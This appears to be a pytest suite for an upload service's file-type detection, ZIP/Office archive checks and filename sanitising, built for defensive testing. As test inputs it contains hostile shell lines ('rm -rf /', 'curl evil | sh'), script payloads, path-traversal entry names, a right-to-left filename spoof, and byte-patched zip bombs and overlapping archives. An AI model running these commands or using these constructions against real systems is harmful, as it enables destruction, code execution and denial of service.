"""Upload type detection from real bytes: every fixture is built here, none is committed."""

from __future__ import annotations

import io
import random
import struct
import unicodedata
import warnings
import zipfile
import zlib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.intake import filetypes
from services.intake.filetypes import (
    ALL_KINDS,
    SNIFF_BYTES,
    Container,
    FileKind,
    Reason,
    RejectedFile,
    check_declared,
    detect_kind,
    inspect_office_archive,
    sanitize_filename,
    sniff,
)
from tests.samples import (
    CONTENT_TYPES,
    DEFLATED,
    DOCUMENT,
    ODS_MIME,
    ODT_MIME,
    RELS,
    SAMPLES,
    STORED,
    build_zip,
    docx_entries,
    make_docx,
    odf_entries,
    xlsx_entries,
    zip_bomb,
)

# Central directory (CD) and local header field offsets, from the ZIP specification.
CD_FLAGS, CD_CSIZE, CD_USIZE, CD_NAME_LEN, CD_LOCAL_OFFSET = 8, 20, 24, 28, 42
LOCAL_FLAGS, LOCAL_USIZE = 6, 22


def central_records(data: bytes) -> dict[str, int]:
    """Entry name -> offset of its central directory record."""
    eocd = data.rfind(b"PK\x05\x06")
    count, _size, offset = struct.unpack_from("<HII", data, eocd + 10)
    records, pos = {}, offset
    for _ in range(count):
        assert data[pos:pos + 4] == b"PK\x01\x02"
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + CD_NAME_LEN)
        records[data[pos + 46:pos + 46 + name_len].decode()] = pos
        pos += 46 + name_len + extra_len + comment_len
    return records


def read_field(data: bytes, pos: int, fmt: str) -> int:
    value: int = struct.unpack_from(fmt, data, pos)[0]
    return value


def patch(data: bytes, pos: int, fmt: str, value: int) -> bytes:
    out = bytearray(data)
    struct.pack_into(fmt, out, pos, value)
    return bytes(out)


def local_offset(data: bytes, name: str) -> int:
    return read_field(data, central_records(data)[name] + CD_LOCAL_OFFSET, "<I")


def rejection(data: bytes, **kwargs: Any) -> RejectedFile:
    with pytest.raises(RejectedFile) as caught:
        inspect_office_archive(io.BytesIO(data), **kwargs)
    return caught.value


class TrickleReader(io.RawIOBase):
    """A seekable raw stream handing out at most 3 bytes per read."""

    def __init__(self, data: bytes) -> None:
        self._buf = io.BytesIO(data)

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def seek(self, offset: int, whence: int = 0) -> int:
        return self._buf.seek(offset, whence)

    def tell(self) -> int:
        return self._buf.tell()

    def readinto(self, buffer: Any) -> int:
        chunk = self._buf.read(min(3, len(buffer)))
        buffer[:len(chunk)] = chunk
        return len(chunk)


# --- FileKind and sniff -----------------------------------------------------------------------


def test_every_kind_has_a_mime_type_an_extension_and_a_label():
    assert FileKind.PDF.mime_type == "application/pdf"
    assert FileKind.JPEG.extension == ".jpg"
    assert FileKind.XLSX.mime_type.endswith("spreadsheetml.sheet")
    for kind in FileKind:
        assert kind.mime_type
        assert kind.label
        assert kind.extension.startswith(".")
        assert kind.extension.lower() == kind.extension


@pytest.mark.parametrize(("head", "expected"), [
    (SAMPLES[FileKind.PDF], FileKind.PDF),
    (SAMPLES[FileKind.PNG], FileKind.PNG),
    (SAMPLES[FileKind.JPEG], FileKind.JPEG),
    (SAMPLES[FileKind.DOCX], Container.ZIP),
    (SAMPLES[FileKind.ODS], Container.ZIP),
])
def test_sniff_recognises_signatures_at_offset_zero(head, expected):
    assert sniff(head[:SNIFF_BYTES]) is expected


@pytest.mark.parametrize("head", [
    b"",
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00",  # Windows PE
    b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8,  # ELF
    b"<!DOCTYPE html><html><body><script>alert(1)</script>",
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>',
    b"#!/bin/sh\nrm -rf /\n",
    b"Laporan kinerja tahun 2024, teks biasa.",
    b"\n%PDF-1.7\n",  # leading junk before the PDF signature
    b"\xef\xbb\xbf%PDF-1.7",  # a BOM is junk too
    b"\x89PNG\r\n\x1a\n",  # a PNG signature without its IHDR chunk
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 8,  # legacy OLE .doc / .xls
    b"PK\x05\x06" + b"\x00" * 18,  # an empty ZIP: no Office file is one
    b"\xff\xd8",  # truncated JPEG marker
])
def test_sniff_rejects_everything_else(head):
    assert sniff(head) is None


# --- Office archives: the good ones -----------------------------------------------------------


@pytest.mark.parametrize("kind", sorted(filetypes.OFFICE_KINDS))
def test_inspect_identifies_each_office_kind(kind):
    assert inspect_office_archive(io.BytesIO(SAMPLES[kind])) is kind


def test_archive_written_with_data_descriptors_is_accepted():
    # zipfile writes data descriptors (flag bit 3) when the target cannot seek, as streaming
    # writers (and some Office exporters) do.
    class Unseekable(io.RawIOBase):
        def __init__(self) -> None:
            self.buf = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, data: Any) -> int:
            self.buf += bytes(data)
            return len(data)

    sink = Unseekable()
    with zipfile.ZipFile(sink, "w", compression=DEFLATED) as archive:
        for name, data, _ in docx_entries():
            archive.writestr(name, data)
    data = bytes(sink.buf)
    assert read_field(data, LOCAL_FLAGS, "<H") & 0x08
    assert inspect_office_archive(io.BytesIO(data)) is FileKind.DOCX


def test_small_entries_are_exempt_from_the_ratio_check():
    data = build_zip(docx_entries(b"\x00" * filetypes.RATIO_FLOOR))  # ratio ~1000 but tiny
    assert inspect_office_archive(io.BytesIO(data)) is FileKind.DOCX


def test_ordinary_compressible_content_passes_and_a_stricter_ratio_rejects_it():
    rng = random.Random(7)
    text = "".join(rng.choices("abcdefgh <>/=", k=1_000_000)).encode()
    data = build_zip(docx_entries(text))
    assert inspect_office_archive(io.BytesIO(data)) is FileKind.DOCX
    assert rejection(data, max_ratio=1.5).reason_code == Reason.ZIP_BOMB


# --- Office archives: bombs and lies ----------------------------------------------------------


def test_high_ratio_zip_bomb_is_rejected_without_inflating(monkeypatch):
    def no_inflating(*args: Any) -> Any:
        raise AssertionError("inflated a bomb")

    monkeypatch.setattr(filetypes.zlib, "decompressobj", no_inflating)
    error = rejection(zip_bomb())
    assert error.reason_code == Reason.ZIP_BOMB
    assert "Berkas arsip Office" in error.message_id


def test_declared_total_over_the_limit_is_rejected():
    assert rejection(make_docx(), max_total_uncompressed=100).reason_code == \
        Reason.ARCHIVE_TOO_LARGE


def test_too_many_entries_is_rejected_before_zipfile_parses_the_directory(monkeypatch):
    many = docx_entries() + [(f"word/media/{i}.xml", b"<x/>", STORED) for i in range(30)]
    data = build_zip(many)

    def no_parsing(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("parsed the central directory")

    monkeypatch.setattr(filetypes.zipfile, "ZipFile", no_parsing)
    assert rejection(data, max_entries=10).reason_code == Reason.ARCHIVE_TOO_LARGE


def test_end_record_understating_the_entry_count_does_not_bypass_the_limit():
    many = docx_entries() + [(f"word/media/{i}.xml", b"<x/>", STORED) for i in range(30)]
    data = build_zip(many)
    eocd = data.rfind(b"PK\x05\x06")
    data = patch(patch(data, eocd + 8, "<H", 1), eocd + 10, "<H", 1)  # "1 entry"
    assert rejection(data, max_entries=10).reason_code == Reason.ARCHIVE_TOO_LARGE


def with_zip64_end_record(data: bytes, *, zip64_count: int, classic_count: int) -> bytes:
    """`data` with a ZIP64 end record (and locator) spliced in before the classic one."""
    eocd = data.rfind(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack_from("<II", data, eocd + 12)
    zip64_end = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, zip64_count,
                            zip64_count, cd_size, cd_offset)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, eocd, 1)
    classic = patch(patch(data[eocd:], 8, "<H", classic_count), 10, "<H", classic_count)
    return data[:eocd] + zip64_end + locator + classic


def test_zip64_end_record_entry_count_is_checked_before_parsing(monkeypatch):
    honest = with_zip64_end_record(make_docx(), zip64_count=3, classic_count=0xFFFF)
    assert inspect_office_archive(io.BytesIO(honest)) is FileKind.DOCX
    many = with_zip64_end_record(make_docx(), zip64_count=5000, classic_count=3)

    def no_parsing(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("parsed the central directory")

    monkeypatch.setattr(filetypes.zipfile, "ZipFile", no_parsing)
    assert rejection(many).reason_code == Reason.ARCHIVE_TOO_LARGE


class CountingInflater:
    """Wraps zlib's decompressor, adding up every byte it hands out."""

    produced = 0

    def __init__(self, real: Any) -> None:
        self._real = real

    def decompress(self, data: bytes, max_length: int = 0) -> bytes:
        assert max_length > 0, "an unbounded decompress call"
        out: bytes = self._real.decompress(data, max_length)
        CountingInflater.produced += len(out)
        return out

    def __getattr__(self, name: str) -> Any:
        return getattr(self._real, name)


def test_entry_inflating_past_its_declared_size_is_a_bomb_and_is_not_expanded(monkeypatch):
    # A normal zip with a 20 MiB entry, then only its declared uncompressed size is patched
    # (local header and central directory) to 1000 bytes; nothing else is fixed.
    data = build_zip(docx_entries(b"\x00" * (20 * 1024 * 1024)))
    record = central_records(data)["word/document.xml"]
    data = patch(data, record + CD_USIZE, "<I", 1000)
    data = patch(data, local_offset(data, "word/document.xml") + LOCAL_USIZE, "<I", 1000)

    real_decompressobj = zlib.decompressobj
    monkeypatch.setattr(filetypes.zlib, "decompressobj",
                        lambda *args: CountingInflater(real_decompressobj(*args)))
    CountingInflater.produced = 0
    assert rejection(data).reason_code == Reason.ZIP_BOMB
    small_entries = len(CONTENT_TYPES) + len(RELS)
    assert CountingInflater.produced <= small_entries + 1000 + 1


def test_entry_inflating_to_less_than_declared_is_corrupt():
    data = make_docx()
    record = central_records(data)["word/document.xml"]
    data = patch(data, record + CD_USIZE, "<I", len(DOCUMENT) + 10)
    assert rejection(data).reason_code == Reason.CORRUPT_ARCHIVE


def test_stored_entry_with_more_data_than_declared_is_a_bomb():
    data = build_zip(odf_entries(ODT_MIME))
    record = central_records(data)["mimetype"]
    data = patch(data, record + CD_USIZE, "<I", 5)
    assert rejection(data).reason_code == Reason.ZIP_BOMB


def test_two_directory_entries_sharing_one_local_header_overlap():
    data = make_docx()
    record = central_records(data)["word/document.xml"]
    data = patch(data, record + CD_LOCAL_OFFSET, "<I", local_offset(data, "_rels/.rels"))
    assert rejection(data).reason_code == Reason.ZIP_BOMB


def test_entry_whose_data_runs_into_the_next_entry_overlaps():
    # Fifield's construction: an entry's compressed range covers the following local headers.
    data = make_docx()
    record = central_records(data)["[Content_Types].xml"]
    csize = read_field(data, record + CD_CSIZE, "<I")
    data = patch(data, record + CD_CSIZE, "<I", csize + 40)
    assert rejection(data).reason_code == Reason.ZIP_BOMB


# --- Office archives: other rejections --------------------------------------------------------


def test_encrypted_entry_is_rejected():
    data = make_docx()
    record = central_records(data)["word/document.xml"]
    flags = read_field(data, record + CD_FLAGS, "<H")
    data = patch(data, record + CD_FLAGS, "<H", flags | 0x1)
    offset = local_offset(data, "word/document.xml") + LOCAL_FLAGS
    data = patch(data, offset, "<H", read_field(data, offset, "<H") | 0x1)
    error = rejection(data)
    assert error.reason_code == Reason.ENCRYPTED
    assert "kata sandi" in error.message_id


@pytest.mark.parametrize("name", [
    "../evil.xml", "word/../../evil.xml", "/etc/cron.d/evil", "..\\..\\evil.xml",
    "\\windows\\evil.xml", "C:/evil.xml",
])
def test_unsafe_entry_names_are_rejected(name):
    data = build_zip([*docx_entries(), (name, b"x", STORED)])
    assert rejection(data).reason_code == Reason.UNSAFE_PATH


def test_entry_name_with_nul_is_rejected():
    data = build_zip([*docx_entries(), ("word/evilX.xml", b"x", STORED)])
    data = data.replace(b"word/evilX.xml", b"word/evil\x00.xml")
    assert rejection(data).reason_code == Reason.UNSAFE_PATH


def test_duplicate_entry_names_are_rejected():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns "Duplicate name"
        data = build_zip([*docx_entries(), ("word/document.xml", b"<other/>", DEFLATED)])
    assert rejection(data).reason_code == Reason.CORRUPT_ARCHIVE


def test_local_header_name_disagreeing_with_the_directory_is_rejected():
    data = make_docx()
    at = local_offset(data, "word/document.xml") + 30
    assert data[at:at + 17] == b"word/document.xml"
    data = data[:at] + b"word/documenX.xml" + data[at + 17:]
    assert rejection(data).reason_code == Reason.CORRUPT_ARCHIVE


@pytest.mark.parametrize("mutate", [
    pytest.param(lambda d: d[:-40], id="truncated-directory"),
    pytest.param(lambda d: d[: len(d) // 2], id="cut-in-half"),
    pytest.param(lambda d: b"PK\x03\x04" + b"\x00" * 200, id="header-only"),
    pytest.param(lambda d: b"PK\x03\x04junk" + d, id="data-before-first-entry"),
    pytest.param(lambda d: d.replace(b"Laporan", b"Lapxran"), id="bad-crc-stored"),
])
def test_corrupt_archives_are_rejected(mutate):
    data = build_zip([*docx_entries(), ("word/note.txt", b"Laporan", STORED)])
    assert rejection(mutate(data)).reason_code == Reason.CORRUPT_ARCHIVE


def test_corrupt_deflate_stream_is_rejected():
    data = build_zip(docx_entries(DOCUMENT * 50))
    start = local_offset(data, "word/document.xml") + 30 + len("word/document.xml")
    data = data[:start] + b"\xff\xff\xff\xff" + data[start + 4:]
    assert rejection(data).reason_code == Reason.CORRUPT_ARCHIVE


def test_other_compression_methods_are_rejected():
    data = build_zip([*docx_entries(), ("word/extra.xml", b"<x/>" * 100, zipfile.ZIP_BZIP2)])
    assert rejection(data).reason_code == Reason.CORRUPT_ARCHIVE


@pytest.mark.parametrize("entries", [
    pytest.param([("hello.txt", b"halo", DEFLATED)], id="plain-zip"),
    pytest.param([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n", DEFLATED),
                  ("App.class", b"\xca\xfe\xba\xbe", DEFLATED)], id="jar"),
    pytest.param([("mimetype", b"application/epub+zip", STORED),
                  ("content.xml", b"<x/>", DEFLATED),
                  ("META-INF/container.xml", b"<container/>", DEFLATED)], id="epub"),
    pytest.param(odf_entries(ODT_MIME + b"\n"), id="odf-mimetype-not-exact"),
    pytest.param([(n, d, DEFLATED) for n, d, _ in odf_entries(ODT_MIME)],
                 id="odf-mimetype-deflated"),
    pytest.param(odf_entries(ODT_MIME)[1:] + odf_entries(ODT_MIME)[:1],
                 id="odf-mimetype-not-first"),
    pytest.param(odf_entries(ODS_MIME)[:1] + odf_entries(ODS_MIME)[2:], id="odf-without-content"),
    pytest.param([("word/document.xml", DOCUMENT, DEFLATED)], id="docx-without-content-types"),
    pytest.param(docx_entries() + xlsx_entries()[2:], id="docx-and-xlsx-at-once"),
])
def test_archives_that_are_no_office_document_are_unknown(entries):
    data = build_zip(entries)
    error = rejection(data)
    assert error.reason_code == Reason.UNKNOWN_TYPE
    assert "bukan dokumen Office" in error.message_id
    allowed = frozenset({FileKind.PDF, FileKind.DOCX})
    with pytest.raises(RejectedFile) as caught:
        detect_kind(io.BytesIO(data), allowed=allowed)
    assert caught.value.reason_code == Reason.UNKNOWN_TYPE
    assert caught.value.message_id.endswith("Jenis berkas yang diterima: PDF, DOCX.")


def outcome(data: bytes) -> str:
    try:
        return inspect_office_archive(io.BytesIO(data))
    except RejectedFile as error:
        return error.reason_code


@given(st.data())
def test_mutated_archives_only_ever_pass_or_are_rejected(data):
    original = SAMPLES[data.draw(st.sampled_from(sorted(filetypes.OFFICE_KINDS)))]
    mutated = bytearray(original)
    for _ in range(data.draw(st.integers(1, 8))):
        at = data.draw(st.integers(0, len(mutated) - 1))
        mutated[at] = data.draw(st.integers(0, 255))
    if data.draw(st.booleans()):
        mutated = mutated[:data.draw(st.integers(0, len(mutated)))]
    assert outcome(bytes(mutated)) in filetypes.OFFICE_KINDS | set(Reason)


# --- detect_kind ------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", list(FileKind))
def test_detect_kind_finds_every_kind_and_rewinds(kind):
    stream = io.BytesIO(SAMPLES[kind])
    stream.seek(5)  # wherever the caller left it
    assert detect_kind(stream) is kind
    assert stream.tell() == 0


@pytest.mark.parametrize("kind", list(FileKind))
def test_detect_kind_copes_with_short_reads(kind):
    # Buffered like every file object Flask/werkzeug hand out: zipfile needs full reads.
    assert detect_kind(io.BufferedReader(TrickleReader(SAMPLES[kind]), 4)) is kind


@pytest.mark.parametrize("body", [
    b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program cannot be run in DOS mode.",
    b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    b"<html><head><script>document.location='//evil'</script></head></html>",
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    b"#!/bin/bash\ncurl evil | sh\n",
    b"Ini hanya teks biasa yang diberi nama laporan.pdf",
])
def test_non_documents_renamed_pdf_are_rejected(body):
    with pytest.raises(RejectedFile) as caught:
        detect_kind(io.BytesIO(body))
    assert caught.value.reason_code == Reason.UNKNOWN_TYPE
    assert "Jenis berkas tidak dikenali" in caught.value.message_id
    assert "PDF, DOCX, XLSX, ODT, ODS, JPEG, PNG" in caught.value.message_id


def test_legacy_office_gets_a_hint_to_save_as_a_modern_format():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500
    with pytest.raises(RejectedFile) as caught:
        detect_kind(io.BytesIO(ole))
    assert caught.value.reason_code == Reason.UNKNOWN_TYPE
    assert "DOC/XLS" in caught.value.message_id


def test_empty_upload_is_rejected():
    with pytest.raises(RejectedFile) as caught:
        detect_kind(io.BytesIO(b""))
    assert caught.value.reason_code == Reason.EMPTY
    assert caught.value.message_id.startswith("Berkas kosong")


def test_kinds_outside_the_allow_list_are_not_allowed():
    allowed = frozenset({FileKind.PDF, FileKind.XLSX})
    with pytest.raises(RejectedFile) as caught:
        detect_kind(io.BytesIO(SAMPLES[FileKind.PNG]), allowed=allowed)
    assert caught.value.reason_code == Reason.NOT_ALLOWED
    assert "gambar PNG" in caught.value.message_id
    assert "PDF, XLSX" in caught.value.message_id
    with pytest.raises(RejectedFile, match="DOCX") as caught:
        detect_kind(io.BytesIO(SAMPLES[FileKind.DOCX]), allowed=allowed)
    assert caught.value.reason_code == Reason.NOT_ALLOWED
    assert detect_kind(io.BytesIO(SAMPLES[FileKind.XLSX]), allowed=allowed) is FileKind.XLSX


def test_zip_is_not_inspected_when_no_office_kind_is_allowed(monkeypatch):
    def no_inspection(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("inspected")

    monkeypatch.setattr(filetypes, "inspect_office_archive", no_inspection)
    with pytest.raises(RejectedFile) as caught:
        detect_kind(io.BytesIO(zip_bomb()), allowed=frozenset({FileKind.PDF}))
    assert caught.value.reason_code == Reason.NOT_ALLOWED


def test_detect_kind_passes_archive_rejections_through():
    with pytest.raises(RejectedFile) as caught:
        detect_kind(io.BytesIO(zip_bomb()))
    assert caught.value.reason_code == Reason.ZIP_BOMB


def test_rejected_file_carries_code_and_message():
    error = RejectedFile("corrupt_archive", "Berkas arsip Office rusak atau tidak valid.")
    assert error.reason_code == "corrupt_archive"
    assert str(error) == error.message_id
    assert "corrupt_archive" in repr(error)


# --- check_declared ---------------------------------------------------------------------------


@pytest.mark.parametrize(("kind", "content_type", "filename"), [
    (FileKind.PNG, "image/png", "laporan.pdf"),
    (FileKind.PDF, "image/png", "laporan.pdf"),
    (FileKind.PDF, "text/html", None),
    (FileKind.PDF, None, "laporan.exe"),
    (FileKind.PDF, None, "laporan\u202efdp.exe"),  # shows as "laporanexe.pdf"
    (FileKind.JPEG, "application/pdf", "foto.jpg"),
    (FileKind.DOCX, None, "rencana.xlsx"),
    (FileKind.XLSX, "application/vnd.oasis.opendocument.spreadsheet", None),
    (FileKind.ODT, None, "C:\\Users\\staf\\renstra.DOCX"),
    (FileKind.PDF, None, "laporan.pdf.html"),
])
def test_check_declared_rejects_contradictions(kind, content_type, filename):
    with pytest.raises(RejectedFile) as caught:
        check_declared(kind, content_type, filename)
    assert caught.value.reason_code == Reason.TYPE_MISMATCH
    assert caught.value.message_id.startswith("Isi berkas tidak sesuai dengan jenisnya")
    assert kind.label in caught.value.message_id


@pytest.mark.parametrize(("kind", "content_type", "filename"), [
    (FileKind.PDF, None, None),
    (FileKind.PDF, "application/pdf", "laporan.pdf"),
    (FileKind.PDF, "Application/PDF; charset=binary", "LAPORAN.PDF"),
    (FileKind.PDF, "application/octet-stream", "Laporan Pak.Budi"),  # ".Budi" is no extension
    (FileKind.PDF, "", "LKjIP 2024 Rev.1"),
    (FileKind.JPEG, "image/jpeg", "foto.jpeg"),
    (FileKind.JPEG, "image/pjpeg", "foto.JPG"),
    (FileKind.PNG, "image/x-png", "grafik.png"),
    (FileKind.DOCX, "application/msword", "renstra.doc"),  # renamed .doc opens fine in Word
    (FileKind.XLSX, "application/vnd.ms-excel", "iku.xlsx"),
    (FileKind.ODS, "application/zip", "capaian.ods"),
    (FileKind.DOCX, None, "laporan.exe.docx"),
])
def test_check_declared_accepts_agreement_and_generic_types(kind, content_type, filename):
    check_declared(kind, content_type, filename)


# --- sanitize_filename ------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "kind", "expected"), [
    ("../../etc/passwd", FileKind.PDF, "passwd.pdf"),
    ("C:\\x\\y.pdf", FileKind.PDF, "y.pdf"),
    ("lap\x00oran\x01.pdf", FileKind.PDF, "laporan.pdf"),
    ("laporan\u202efdp.exe", FileKind.PDF, "laporanfdp.pdf"),
    ("\u2066laporan\u2069\u200e.pdf", FileKind.PDF, "laporan.pdf"),
    ("laporan.exe", FileKind.PDF, "laporan.pdf"),
    ("foto.PNG", FileKind.JPEG, "foto.jpg"),
    ("Foto.JPEG", FileKind.JPEG, "Foto.jpg"),
    ("Laporan Pak.Budi", FileKind.PDF, "Laporan Pak.Budi.pdf"),
    ("Laporan   Tahunan\t\n2024 .pdf", FileKind.PDF, "Laporan Tahunan 2024.pdf"),
    ('Renja <final> "revisi" v2?*|:.docx', FileKind.DOCX, "Renja final revisi v2.docx"),
    ("Jum'at.pdf", FileKind.PDF, "Jumat.pdf"),
    ("...hidden.pdf", FileKind.PDF, "hidden.pdf"),
    (".pdf", FileKind.PDF, "dokumen.pdf"),
    ("", FileKind.ODS, "dokumen.ods"),
    (None, FileKind.XLSX, "dokumen.xlsx"),
    ("../..", FileKind.PDF, "dokumen.pdf"),
    ("\u202e\x00 . ", FileKind.PNG, "dokumen.png"),
    ("Capaian Kinerja Triwulan IV \u2013 Bidang Perizinan 📊.xlsx", FileKind.XLSX,
     "Capaian Kinerja Triwulan IV \u2013 Bidang Perizinan 📊.xlsx"),
    ("Rencana Strategis (Renstra) 2025\u20132029 Dinas PMPTSP & Naker.pdf", FileKind.PDF,
     "Rencana Strategis (Renstra) 2025\u20132029 Dinas PMPTSP & Naker.pdf"),
    ("Lapora\u0301n.pdf", FileKind.PDF, "Laporán.pdf"),  # NFC composes a + U+0301
])
def test_sanitize_filename_examples(name, kind, expected):
    assert sanitize_filename(name, kind=kind) == expected


def test_sanitize_filename_truncates_keeping_the_extension():
    name = "Laporan Kinerja " + "sangat panjang " * 40 + ".pdf"
    assert len(name) > 500
    result = sanitize_filename(name, kind=FileKind.PDF)
    assert len(result) <= 120
    assert result.endswith(".pdf")
    assert result.startswith("Laporan Kinerja sangat panjang")
    assert not result[:-4].endswith((" ", "."))
    assert sanitize_filename("x" * 500, kind=FileKind.DOCX, max_length=10) == "xxxxx.docx"


def test_sanitize_filename_refuses_a_max_length_too_short_for_the_extension():
    assert sanitize_filename("laporan.pdf", kind=FileKind.PDF, max_length=5) == "l.pdf"
    with pytest.raises(ValueError, match="max_length"):
        sanitize_filename("laporan.pdf", kind=FileKind.PDF, max_length=4)


_FORBIDDEN = set("/\\\x00") | filetypes._BIDI_CONTROLS
_NASTY = st.sampled_from(sorted(_FORBIDDEN | set('.:*?"<>|\'` \t\n\u200b\ufeff\u0301')))
_NAMES = st.none() | st.text(st.characters() | _NASTY, max_size=300) | st.builds(
    lambda stem, ext: f"{stem}.{ext}", st.text(max_size=150),
    st.sampled_from(["pdf", "PDF", "exe", "docx", "jpeg", "Budi", "tar.gz", ""]))


@given(name=_NAMES, kind=st.sampled_from(list(FileKind)), max_length=st.integers(6, 300))
def test_sanitize_filename_properties(name, kind, max_length):
    result = sanitize_filename(name, kind=kind, max_length=max_length)
    assert len(result) <= max_length
    assert result.endswith(kind.extension)
    assert len(result) > len(kind.extension)
    assert not _FORBIDDEN & set(result)
    assert not any(unicodedata.category(ch) == "Cc" for ch in result)
    assert not result.startswith((".", " "))
    assert "  " not in result
    assert unicodedata.is_normalized("NFC", result)
    assert sanitize_filename(result, kind=kind, max_length=max_length) == result
    check_declared(kind, None, result)  # the display name never contradicts the real kind


def test_all_kinds_is_the_default_allow_list():
    assert frozenset(FileKind) == ALL_KINDS
    assert len(ALL_KINDS) == 7


@pytest.mark.parametrize("entries", [
    [*docx_entries(), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 vba", DEFLATED)],
    [*xlsx_entries(), ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 vba", DEFLATED)],
    [*odf_entries(ODT_MIME), ("Basic/Standard/Module1.xml", b"<script:module/>", DEFLATED)],
], ids=["docm-as-docx", "xlsm-as-xlsx", "odt-with-basic"])
def test_office_documents_with_macros_are_refused(entries):
    assert rejection(build_zip(entries)).reason_code == Reason.MACROS
